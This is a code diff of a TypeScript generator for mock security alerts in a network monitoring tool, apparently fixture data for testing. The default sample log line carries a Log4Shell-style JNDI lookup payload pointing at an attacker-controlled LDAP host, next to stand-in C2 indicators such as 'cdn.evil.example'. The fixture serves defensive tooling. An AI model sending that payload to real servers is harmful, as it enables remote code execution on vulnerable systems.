@@ -37,11 +37,11 @@ export function alert(o: Options) {
     predates_sensor: false, remote_name: text ?? 'cdn.evil.example', process,
   };
   const claims = [
-    { feed: text ?? 'c2-tracker', matched: peer, category: 'c2', direction: 'out', confidence: 90, first_seen: ago(60 * 24 * 9), last_seen: ago(60), labels: [text ?? 'cobalt-strike'], source: { license: text ?? '' } },
+    { feed: text ?? 'c2-tracker', matched: peer, category: 'c2', direction: 'out', confidence: 90, first_seen: ago(60 * 24 * 9), last_seen: ago(60), labels: text ? [text, text] : ['cobalt-strike'], source: { license: text ?? '' } },
     { feed: 'example-drop', matched: '203.0.113.0/24', category: 'hijacked', direction: 'both', confidence: 60, first_seen: ago(60 * 24 * 40), last_seen: ago(60 * 5) },
   ].map(({ source, ...claim }: Record<string, unknown> & { source?: unknown }) => (void source, claim));
   const finding = (n: number, presence: string) => ({
-    purl: `pkg:maven/org.example/logging-core@2.14.${n}`, name: text ?? 'logging-core', version: `2.14.${n}`, id: `EXAMPLE-2026-000${n}`, cves: [`CVE-2026-1000${n}`], state: 'affected', presence, fixed: '2.17.1',
+    purl: `pkg:maven/org.example/logging-core@2.14.${n}`, name: text ?? 'logging-core', version: `2.14.${n}`, id: `EXAMPLE-2026-000${n}`, cves: text ? [text, text, text] : [`CVE-2026-1000${n}`], state: 'affected', presence, fixed: '2.17.1',
     severity: { nvd: '10.0' }, cvss_tenths: 100 - n, known_exploited: n === 1 && score >= 60, epss_bp: 9750 - n, fix_command: text ?? 'replace /opt/shop/lib/logging-core-2.14.1.jar by 2.17.1', source: text ?? 'osv',
   });
   const raw = text ?? `198.51.100.77 - - [20/Nov/2026:03:00:01 +0000] "GET /?x=\${jndi:ldap://${peer}:1389/a} HTTP/1.1" 200 12 "-" "Mozilla/5.0"`;
@@ -55,7 +55,7 @@ export function alert(o: Options) {
     confidence: 90, confidence_why: [{ name: 'claim', points: 90, reason: text ?? 'c2-tracker calls it c2, sure to 90 of 100' }],
     first_seen: ago(minutes), last_seen: ago(Math.max(0, minutes - 8)), count: 14, bytes_in: 7000, bytes_out: 90_000 + score, still_open: score > 50, beacon_score: score > 80 ? 87 : undefined,
     process: o.poor ? undefined : process, connections: o.poor ? [] : [connection], claims, guard: text ? [{ list: text, range: '203.0.113.0/24', kind: 'shared' }] : [], findings: o.poor ? [] : [finding(1, 'loaded'), finding(2, 'installed')],
-    techniques: ['T1190', 'T1071'], suggested: [`tripoint block ${peer} --for 24h --reason 'alert ${o.id}'`, text ?? 'replace /opt/shop/lib/logging-core-2.14.1.jar by 2.17.1'],
+    techniques: text ? ['T1190', 'T1190'] : ['T1190', 'T1071'], suggested: [`tripoint block ${peer} --for 24h --reason 'alert ${o.id}'`, text ?? 'replace /opt/shop/lib/logging-core-2.14.1.jar by 2.17.1'],
     missing: [{ what: 'name', why: text ?? 'no answer of a name server with this address was seen' }],
     investigation: o.poor ? undefined : {
       at: ago(Math.max(0, minutes - 1)), took_ms: 12,
